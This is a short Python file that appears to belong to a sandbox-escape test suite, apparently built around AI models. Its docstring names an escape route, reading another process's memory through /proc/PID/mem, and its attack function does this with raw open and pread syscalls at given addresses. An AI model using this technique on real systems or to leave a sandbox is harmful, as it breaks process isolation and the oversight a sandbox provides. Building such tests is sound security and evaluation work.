"""Class: processes. Source: own find. Escape: another process's memory is read from /proc/PID/mem.
gVisor: does not say where a process keeps its variables.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    found = []
    for name, pid in scene["processes"].items():
        descriptor = libc.syscall(2, f"/proc/{pid}/mem".encode(), 0)
        data = ctypes.create_string_buffer(96)
        libc.syscall(17, descriptor, data, 96, ctypes.c_long(scene["addresses"][name]))
        found.append(data.raw)
    return found
